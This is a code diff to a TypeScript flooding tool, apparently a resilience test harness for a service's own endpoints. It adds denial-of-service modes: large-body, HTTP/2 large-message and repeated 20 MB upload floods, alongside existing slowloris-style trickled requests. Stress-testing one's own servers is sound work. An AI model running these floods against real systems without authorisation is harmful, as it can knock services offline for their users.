@@ -3,6 +3,7 @@
  * itself, so that no library keeps it within the limits of the server, and opens every connection anew that the server closes.
  * It ends when its time is over.
  */
+import { randomBytes } from "node:crypto";
 import { connect } from "node:net";
 import type { Socket } from "node:net";
 import {
@@ -28,6 +29,11 @@ export interface Flood {
   count: number;
   path?: string;
   token?: string;
+}
+
+function requestHead(path: string, token: string | undefined, length: number, type = "application/json"): string {
+  const authorization = token === undefined ? "" : `authorization: Bearer ${token}\r\n`;
+  return `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: ${length}\r\n${authorization}\r\n`;
 }
 
 function requestHeaders({ path = "/grpc.health.v1.Health/Check", token }: Flood): Buffer {
@@ -119,12 +125,34 @@ const kinds: Readonly<Record<string, (flood: Flood) => (socket: Socket) => void>
     ),
   "window updates": ({ count }) =>
     repeated(Buffer.concat([preface, noWindow, acknowledged]), frame("windowUpdate", 0, 0, word(1)), count),
+  /** Requests of which as much is sent as the server takes. */
+  "large body": ({ path = "/", token, count }) =>
+    repeated(Buffer.from(requestHead(path, token, 200 * count)), Buffer.alloc(200, "a"), count),
+  /** The same over HTTP/2, as far as the windows go. */
+  "large message": (flood) => {
+    const headers = frame("headers", endHeaders, 1, requestHeaders(flood));
+    return repeated(
+      Buffer.concat([preface, noWindow, acknowledged, headers]),
+      frame("data", 0, 1, Buffer.alloc(16_000)),
+      flood.count,
+    );
+  },
+  /** Files of 20 MB, each another one; the next one once the one before was answered. */
+  upload:
+    ({ path = "/", token, count }) =>
+    (socket) => {
+      const words = Buffer.from("Invoice 17 of 2026, total due 12.00 \n".repeat(count));
+      words.write(randomBytes(8).toString("hex"));
+      socket.write(requestHead(path, token, words.length, "text/plain"));
+      socket.write(words);
+      socket.once("data", (answer) => {
+        const [, status = "?"] = answer.toString("latin1").split(" ", 2);
+        answered[status] = (answered[status] ?? 0) + 1;
+        setTimeout(() => socket.destroy(), 100);
+      });
+    },
   "slow headers": () => trickled("GET /healthz HTTP/1.1\r\nhost: x\r\nx-a: "),
-  "slow body": ({ path = "/api/v1/classify", token }) =>
-    trickled(
-      `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n` +
-        `${token === undefined ? "" : `authorization: Bearer ${token}\r\n`}\r\n{"a":"`,
-    ),
+  "slow body": ({ path = "/api/v1/classify", token }) => trickled(`${requestHead(path, token, 1_000_000)}{"a":"`),
   /** Requests one after the other, of which no answer is read. */
   "unread pages":
     ({ path = "/openapi.json", token, count }) =>
@@ -136,6 +164,7 @@ const kinds: Readonly<Record<string, (flood: Flood) => (socket: Socket) => void>
     },
 };
 
+const answered: Record<string, number> = {};
 const flood = JSON.parse(process.argv[2] ?? "{}") as Flood;
 const attack = kinds[flood.kind]?.(flood);
 if (attack === undefined) throw new Error(`There is no attack ${flood.kind}`);
@@ -153,6 +182,6 @@ function open(): void {
 
 for (let index = 0; index < flood.connections; index += 1) open();
 setTimeout(() => {
-  console.log(`${opened} connections opened`);
+  console.log(`${opened} connections opened`, answered);
   process.exit();
 }, flood.milliseconds);
